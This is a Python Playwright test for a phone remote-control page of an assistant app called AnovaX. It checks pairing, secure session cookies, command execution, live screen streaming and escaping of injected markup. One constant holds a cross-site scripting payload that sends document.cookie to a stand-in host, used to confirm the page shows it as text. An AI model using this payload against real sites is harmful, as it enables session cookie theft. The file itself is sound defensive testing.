"""The phone page in Debian's Chromium (Playwright, phone viewport): pair, tap, watch agents and the screen.

The screen is a real Xvfb with a ticking xterm when both exist, else the synthetic screen.
Saves the page as docs/phone.png for the README.
"""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
from pathlib import Path

import pytest
from helpers import wait_for
from remote_kit import TEST_LIMITS

from anovax.app import Assistant
from anovax.desktop import SimulatedDesktop
from anovax.events import EventType
from anovax.memory import Memory
from anovax.remote import MssScreen, RemoteServer, SyntheticScreen
from anovax.remote.state import assistant_state
from anovax.settings import Settings

CHROMIUM = "/usr/bin/chromium"
DOCS = Path(__file__).resolve().parents[1] / "docs"
XSS = '<img src=x onerror="fetch(\'//evil.example/\'+document.cookie)">'

# a checksum of what the <img> shows now: changes when a new MJPEG frame has been drawn
SCREEN_SUM = """() => {
  const img = document.getElementById('screen');
  if (!img || !img.naturalWidth) return null;
  const c = document.createElement('canvas');
  c.width = 64; c.height = 36;
  const g = c.getContext('2d');
  g.drawImage(img, 0, 0, 64, 36);
  const d = g.getImageData(0, 0, 64, 36).data;
  let sum = 0;
  for (let i = 0; i < d.length; i++) sum = (sum * 31 + d[i]) % 1000000007;
  return sum;
}"""


def _playwright():
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        pytest.skip("playwright is not installed (pip install playwright; it is in the [dev] extra)")
    if not os.access(CHROMIUM, os.X_OK):
        pytest.skip(f"{CHROMIUM} is missing (Debian package chromium; `make test` installs it)")
    return sync_playwright


@contextlib.contextmanager
def desktop_screen(tmp_path):
    """A real screen with something that changes on it, or the synthetic one."""
    if not (shutil.which("Xvfb") and shutil.which("xterm")):
        yield SyntheticScreen(1280, 800)
        return
    from xserver import x_server

    with x_server(1280, 800, workdir=tmp_path) as xs:
        clock = subprocess.Popen(
            ["xterm", "-geometry", "64x14+120+90", "-fa", "Monospace", "-fs", "18", "-bg", "#1e2430", "-fg", "#e8ecf4",
             "-T", "AnovaX desktop",
             "-e", "sh", "-c", "while :; do clear; echo 'AnovaX desktop under Xvfb'; date +%T.%N; sleep 0.1; done"],
            env={**os.environ, **xs.env}, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            yield MssScreen(display=xs.display)
        finally:
            clock.terminate()
            clock.wait(5)


def test_phone_page_pairs_runs_a_command_and_shows_the_live_screen(tmp_path):
    sync_playwright = _playwright()
    settings = Settings(planner="offline", memory_path=tmp_path / "memory.json", log_path=None, remote_port=0,
                        remote_bind="127.0.0.1", remote_width=960, remote_fps=10)
    desktop = SimulatedDesktop()
    assistant = Assistant(settings, memory=Memory(settings.memory_path), desktop=desktop)
    with desktop_screen(tmp_path) as frames:
        server = RemoteServer(settings, assistant.bus, assistant.submit, state=assistant_state(assistant),
                              frames=frames, limits=TEST_LIMITS)
        server.start()
        evil_requests = []
        try:
            with sync_playwright() as p:
                browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=["--no-sandbox"])
                context = browser.new_context(viewport={"width": 390, "height": 844}, device_scale_factor=2,
                                              is_mobile=True, has_touch=True)
                page = context.new_page()
                page.on("request", lambda r: "evil.example" in r.url and evil_requests.append(r.url))

                # unpaired first: the page says so and streams nothing
                page.goto(server.address + "/")
                page.wait_for_selector("#unpaired:not([hidden])")
                assert server.viewers == 0 and server.event_clients == 0

                page.goto(server.pairing_url)  # what scanning the QR code does
                page.wait_for_selector("#remote:not([hidden])")
                assert page.url == server.address + "/"
                cookie = next(c for c in context.cookies() if c["name"] == "anovax_session")
                assert cookie["httpOnly"] and cookie["sameSite"] == "Strict"
                wait_for(lambda: server.event_clients == 1 and server.viewers == 1, what="page streams attached")

                page.tap("button[data-command='open notepad']")
                page.wait_for_selector("#events li[data-type='AGENT_SPAWNED']")
                page.wait_for_selector("#events li[data-type='AGENT_DONE']")
                spawned = page.locator("#events li[data-type='AGENT_SPAWNED']").first.inner_text()
                assert "open_app" in spawned and "notepad" in spawned
                page.wait_for_selector("#replies li")

                # a typed command
                page.fill("#command-text", "what time is it")
                page.press("#command-text", "Enter")
                wait_for(lambda: any(e.type == EventType.COMMAND_DONE and e.data["text"] == "what time is it"
                                     for e in assistant.bus.recent(0)), what="typed command done")

                # the <img> shows new frames as the screen changes
                first = wait_for(lambda: page.evaluate(SCREEN_SUM), what="a first frame on the page")
                wait_for(lambda: page.evaluate(SCREEN_SUM) not in (None, first), timeout_s=10,
                         what="the screen image to change")
                assert server._ctx.screen.encoded >= 2

                DOCS.mkdir(exist_ok=True)
                page.locator("#command-text").blur()
                page.screenshot(path=str(DOCS / "phone.png"), full_page=True)

                # transcripts and model replies are shown as text, never as markup (H-28)
                assistant.bus.emit(EventType.COMMAND_RECEIVED, "c-xss", data={"text": XSS})
                page.wait_for_selector("#events li[data-command='c-xss']")
                assert page.locator("#events li[data-command='c-xss'] .detail").inner_text() == XSS
                assert page.locator("#events img").count() == 0
                browser.close()
        finally:
            server.stop()
            assistant.close()
    assert evil_requests == []
    assert [a.kind for a in desktop.actions][:1] == ["launch"]
